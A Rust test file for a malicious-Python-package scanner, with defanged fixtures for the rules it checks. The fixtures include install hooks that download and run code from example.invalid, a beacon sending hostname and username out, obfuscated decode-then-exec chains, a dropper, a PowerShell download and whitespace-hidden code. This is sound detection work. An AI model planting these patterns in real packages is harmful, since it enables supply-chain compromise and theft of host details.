//! Synthetic, defanged fixtures: each positive shows one behaviour with a harmless target
//! (example.invalid, documentation IP ranges), each negative shows what honest packages do.

use super::*;

fn rules(path: &str, code: &str, ctx: Context) -> Vec<String> {
    let mut r: Vec<String> = analyze(path, code.as_bytes(), ctx, path.ends_with(".pth")).findings.into_iter().map(|f| f.rule).collect();
    r.sort();
    r.dedup();
    r
}

fn setup(code: &str) -> Vec<String> {
    rules("demo-1.0/setup.py", code, Context::Install)
}

#[test]
fn install_time_download_and_run() {
    let code = r#"
import os
from urllib.request import urlopen
from setuptools import setup
data = urlopen("http://example.invalid/x").read()
os.system("sh /tmp/x")
setup(name="demo")
"#;
    assert!(setup(code).contains(&"py-install-download-exec".to_string()), "{:?}", setup(code));
}

#[test]
fn install_command_override_with_aliases() {
    let code = r#"
from setuptools import setup
from setuptools.command.install import install
import requests as r
from subprocess import Popen as P
class Hook(install):
    def run(self):
        r.get("https://example.invalid/payload")
        P(["python", "-c", "print(1)"])
        install.run(self)
setup(name="demo", cmdclass={"install": Hook})
"#;
    assert!(setup(code).contains(&"py-install-download-exec".to_string()), "{:?}", setup(code));
}

#[test]
fn dependency_confusion_beacon() {
    let code = r#"
import socket, getpass, requests
from setuptools import setup
requests.post("https://example.invalid/c", json={"h": socket.gethostname(), "u": getpass.getuser()})
setup(name="internal-lib", version="99.0.0")
"#;
    assert!(setup(code).contains(&"py-install-exfil-hostinfo".to_string()), "{:?}", setup(code));
}

#[test]
fn decode_exec_chains() {
    for code in [
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        "import base64 as b\nexec(b.b64decode('cHJpbnQoMSk='))\n",
        "from base64 import b64decode as d\neval(compile(d('cHJpbnQoMSk='), '<x>', 'exec'))\n",
        "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
        "import zlib, base64\ncode = zlib.decompress(base64.b64decode('eJw='))\nexec(code)\n",
        "_ = lambda __ : __import__('zlib').decompress(__[::-1])\nexec((_)(b'x'))\n",
        "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n",
        "import marshal\nexec(marshal.loads(b'\\xe3'))\n",
        "__import__('builtins').exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
    ] {
        let r = rules("demo-1.0/setup.py", code, Context::Install);
        assert!(r.contains(&"py-decode-exec".to_string()), "{code}: {r:?}");
    }
}

#[test]
fn network_exec() {
    let code = "import urllib.request\nexec(urllib.request.urlopen('http://example.invalid/x').read())\n";
    assert!(rules("pkg/mod.py", code, Context::Module).contains(&"py-network-exec".to_string()));
}

#[test]
fn import_time_behaviour() {
    let code = "import requests, subprocess\nrequests.get('https://example.invalid')\nsubprocess.run(['id'])\n";
    assert!(rules("pkg/__init__.py", code, Context::Import).contains(&"py-import-download-exec".to_string()));
    // The same inside a function of __init__ runs only when called.
    let code = "import requests, subprocess\ndef update():\n    requests.get('https://example.invalid')\n    subprocess.run(['id'])\n";
    assert!(!rules("pkg/__init__.py", code, Context::Import).contains(&"py-import-download-exec".to_string()));
}

#[test]
fn dropper_shape() {
    let code = "import requests, subprocess\ndef go():\n    d = requests.get('https://example.invalid/a.exe').content\n    with open('a.exe', 'wb') as f:\n        f.write(d)\n    subprocess.Popen(['a.exe'])\n";
    assert!(rules("pkg/util.py", code, Context::Module).contains(&"py-dropper".to_string()));
}

#[test]
fn hidden_code_and_pth() {
    let code = format!("x = 1{}; import os; os.system('id')\n", " ".repeat(200));
    assert!(rules("pkg/mod.py", &code, Context::Module).contains(&"py-hidden-code".to_string()));
    let r = rules("evil.pth", "import os; os.system('id')\n", Context::Install);
    assert!(r.contains(&"pth-executable-line".to_string()), "{r:?}");
    assert!(r.contains(&"py-install-process".to_string()), "{r:?}");
}

#[test]
fn honest_setup_py_is_quiet() {
    let code = r#"
import os, re, subprocess, sys
from setuptools import setup, Extension
here = os.path.abspath(os.path.dirname(__file__))
exec(open(os.path.join(here, "demo", "_version.py")).read())
def git_rev():
    try:
        return subprocess.check_output(["git", "rev-parse", "HEAD"]).decode().strip()
    except Exception:
        return ""
if os.environ.get("DEMO_DEBUG"):
    print("debug build")
setup(name="demo", version=__version__, ext_modules=[Extension("demo._c", ["src/c.c"])])
"#;
    let r = setup(code);
    assert!(r.iter().all(|x| x == "py-install-process"), "{r:?}");
}

#[test]
fn honest_library_network_and_subprocess() {
    let code = "import requests, subprocess, base64\ndef fetch(url):\n    return requests.get(url).json()\ndef run(cmd):\n    return subprocess.run(cmd, check=True)\ndef token(s):\n    return base64.b64decode(s)\n";
    assert!(rules("pkg/client.py", code, Context::Module).is_empty());
    assert!(rules("pkg/__init__.py", code, Context::Import).is_empty());
}

#[test]
fn python2_and_broken_code_still_parse() {
    let code = "import base64\nprint 'hello'\nexec base64.b64decode('cHJpbnQoMSk=')\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
    assert!(setup(code).contains(&"py-decode-exec".to_string()), "{:?}", setup(code));
}

#[test]
fn decrypt_then_exec() {
    let code = "from cryptography.fernet import Fernet\nexec(Fernet(b'a2V5').decrypt(b'gAAAAA'))\n";
    assert!(setup(code).contains(&"py-decode-exec".to_string()), "{:?}", setup(code));
    let code = "from cryptography.fernet import Fernet\nf = Fernet(b'a2V5')\ncode = f.decrypt(b'gAAAAA')\nexec(code)\n";
    assert!(setup(code).contains(&"py-decode-exec".to_string()), "{:?}", setup(code));
}

#[test]
fn hidden_endpoints_and_module_exfil() {
    let code = "import base64, requests\ndef report(d):\n    requests.post(url=base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ=').decode(), json=d)\n";
    assert!(rules("pkg/main.py", code, Context::Module).contains(&"py-hidden-endpoint".to_string()));
    let code = "import socket, requests\ndef go():\n    requests.post('https://example.invalid', data=socket.gethostname())\n";
    assert!(rules("pkg/main.py", code, Context::Module).contains(&"py-exfil-hostinfo".to_string()));
}

#[test]
fn dynamic_exec_in_setup() {
    let code = "from setuptools import setup\npayload = compute()\nexec(payload)\nsetup(name='x')\n";
    assert!(setup(code).contains(&"py-install-dynamic-exec".to_string()), "{:?}", setup(code));
}

#[test]
fn host_details_must_flow_into_the_request() {
    let code = "import socket, getpass, requests\ndef go():\n    info = {'h': socket.gethostname(), 'u': getpass.getuser()}\n    requests.post('https://example.invalid', json=info)\n";
    assert!(rules("pkg/main.py", code, Context::Module).contains(&"py-exfil-hostinfo".to_string()));
    // A client that reads the platform for its own use and talks to its API is not exfiltrating.
    let code = "import platform, requests\nUA = 'x'\ndef os_name():\n    return platform.platform()\ndef get(u):\n    return requests.get(u, headers={'User-Agent': UA})\n";
    assert!(rules("pkg/client.py", code, Context::Module).is_empty(), "{:?}", rules("pkg/client.py", code, Context::Module));
}

#[test]
fn only_direct_decoders_hide_endpoints() {
    // Data decoded earlier and sent later is ordinary (keys, tokens); a decoder inside the call is not.
    let code = "import base64, requests\nkey = base64.b64decode(CFG)\ndef send():\n    requests.post(URL, data=key)\n";
    assert!(!rules("pkg/client.py", code, Context::Module).contains(&"py-hidden-endpoint".to_string()));
}

#[test]
fn whitespace_alone_is_not_hidden_code() {
    let art = format!("x = 1{}# a comment\nprint('{}|')\n", " ".repeat(200), " ".repeat(200));
    assert!(!rules("pkg/art.py", &art, Context::Module).contains(&"py-hidden-code".to_string()));
}

#[test]
fn commands_that_download_or_hide() {
    let code = "import subprocess\nsubprocess.Popen('powershell -command Invoke-WebRequest -Uri https://example.invalid/a.exe -OutFile a.exe', shell=True)\n";
    assert!(setup(code).contains(&"py-install-download-exec".to_string()), "{:?}", setup(code));
    let code = "import os, base64\ndef b64d(s):\n    return base64.b64decode(s).decode()\nos.system(b64d('bm90ZXBhZAo='))\n";
    assert!(setup(code).contains(&"py-hidden-command".to_string()), "{:?}", setup(code));
    let code = "import os, sys\nos.system(f'{sys.executable} -m pip install somepkg')\n";
    assert!(setup(code).contains(&"py-install-pip-install".to_string()), "{:?}", setup(code));
    // Build commands are not downloads.
    let code = "import subprocess\nsubprocess.check_call(['cmake', '--build', '.'])\n";
    assert_eq!(setup(code), vec!["py-install-process".to_string()]);
}
